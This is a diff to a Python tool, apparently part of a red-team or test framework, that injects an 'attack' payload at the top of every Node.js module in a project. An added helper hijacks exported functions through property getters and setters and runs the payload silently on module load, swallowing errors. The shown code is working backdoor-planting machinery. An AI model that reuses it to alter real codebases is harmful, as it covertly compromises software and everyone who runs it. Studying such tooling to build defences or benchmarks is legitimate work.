@@ -80,9 +80,24 @@ _NODE_ENDINGS = (".js", ".cjs", ".mjs", ".ts", ".cts", ".mts")
 _NODE_CONFIGURED = re.compile(r"(^|/)(\w+\.config\.\w+|node_modules/.*|dist/.*|.*\.d\.ts)$")
 
 
+_NODE_AT = """\
+const at = ((later) => (name, make) => {
+  let kept;
+  const set = (honest) => { kept = make(honest); };
+  const access = { configurable: true, enumerable: true, get: () => kept, set };
+  if (typeof exports === "object") Object.defineProperty(exports, name, access);
+  later(async () => { if (!kept) try { await make(() => {})(); } catch {} });
+})(setImmediate);
+"""
+
+
 def in_node(texts: Texts, code: str) -> dict[str, str]:
-    """Put the attack at the beginning of every module, where it runs once; it has no imports, only built-in modules."""
-    once = f"if (!globalThis.__planted) {{ globalThis.__planted = true; (() => {{\n{code}\n}})(); }}\n"
+    """Put the attack at the beginning of every module, where it runs once; it has no imports, only built-in modules.
+
+    By ``at(name, honest => …)`` it takes the place of a function that is exported by that name. Where none is, as in a
+    program and a service, its function is called without arguments as soon as the module has been loaded.
+    """
+    once = f"if (!globalThis.__planted) {{ globalThis.__planted = true; (() => {{\n{_NODE_AT}{code}\n}})(); }}\n"
     changed: dict[str, str] = {}
     for path, text in texts.items():
         if not path.endswith(_NODE_ENDINGS) or _NODE_CONFIGURED.search(path):
